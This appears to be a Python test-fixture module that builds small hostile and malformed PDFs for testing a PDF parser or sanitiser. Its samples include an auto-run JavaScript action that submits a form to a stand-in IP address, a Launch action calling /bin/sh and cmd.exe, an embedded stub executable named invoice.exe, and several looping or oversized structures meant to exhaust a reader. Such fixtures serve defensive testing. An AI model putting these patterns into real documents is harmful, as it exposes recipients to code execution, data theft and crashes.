"""PDFs written by hand, as an attacker writes them."""

from __future__ import annotations

from collections.abc import Mapping

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 60 80]/Contents 4 0 R>>"
DRAWN = b"0 0 1 rg 10 10 40 60 re f"


def pdf(
    objects: Mapping[int, bytes] | None = None, *, catalog: bytes = b"", trailer: bytes = b""
) -> bytes:
    """Return a PDF of one blue page, with other objects and more in its catalog and trailer."""
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE,
        4: stream(DRAWN),
        **(objects or {}),
    }
    made, places = b"%PDF-1.7\n", {}
    for number, content in sorted(parts.items()):
        places[number] = len(made)
        made += b"%d 0 obj%s endobj\n" % (number, content)
    start, last = len(made), max(parts)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        made += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    return made + b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        last + 1,
        trailer,
        start,
    )


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return an object that holds octets."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), more, content)


def of_pages(count: int) -> bytes:
    """Return a PDF of many pages that are one and the same."""
    pages = b" ".join(b"%d 0 R" % (number + 10) for number in range(count))
    return pdf(
        {
            2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (pages, count),
            **{number + 10: PAGE for number in range(count)},
        }
    )


WITH_SCRIPT = pdf(
    {5: b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://192.0.2.1'\\))>>"},
    catalog=b"/OpenAction 5 0 R/Names<</JavaScript<</Names[(a)5 0 R]>>>>",
)
WITH_LAUNCH = pdf(
    {
        3: PAGE[:-2] + b"/Annots[5 0 R]/AA<</O 6 0 R>>>>",
        5: b"<</Type/Annot/Subtype/Link/Rect[0 0 60 80]/A 6 0 R>>",
        6: b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
    }
)
WITH_ATTACHMENT = pdf(
    {
        5: stream(b"MZ a program that nobody asked for", b"/Type/EmbeddedFile"),
        6: b"<</Type/Filespec/F(invoice.exe)/EF<</F 5 0 R>>>>",
    },
    catalog=b"/Names<</EmbeddedFiles<</Names[(invoice.exe)6 0 R]>>>>",
)
ENCRYPTED = pdf(
    {
        5: b"<</Filter/Standard/V 1/R 2/P -64/O<" + b"11" * 32 + b">/U<" + b"22" * 32 + b">>>",
    },
    trailer=b"/Encrypt 5 0 R/ID[<%s><%s>]" % (b"33" * 16, b"33" * 16),
)
PAGES_IN_A_CIRCLE = pdf({2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 4000000>>"})
LENGTH_OF_ITSELF = pdf({4: b"<</Length 4 0 R>>stream\n0\nendstream"})
FORMS_IN_A_CIRCLE = pdf(
    {
        3: PAGE[:-2] + b"/Resources<</XObject<</A 5 0 R>>>>>>",
        4: stream(b"/A Do " * 2000),
        5: stream(
            b"/A Do " * 2000,
            b"/Type/XObject/Subtype/Form/BBox[0 0 60 80]/Resources<</XObject<</A 5 0 R>>>>",
        ),
    }
)
HUGE_PAGE = pdf({3: PAGE.replace(b"60 80", b"99999999 99999999")})
NO_PAGE = pdf({2: b"<</Type/Pages/Kids[]/Count 0>>"})


def _with_table_in_a_circle() -> bytes:
    whole = pdf(trailer=b"/Prev 0000000000")
    place = whole.rindex(b"\nxref\n") + 1
    return whole.replace(b"/Prev 0000000000", b"/Prev %010d" % place)


TABLE_IN_A_CIRCLE = _with_table_in_a_circle()
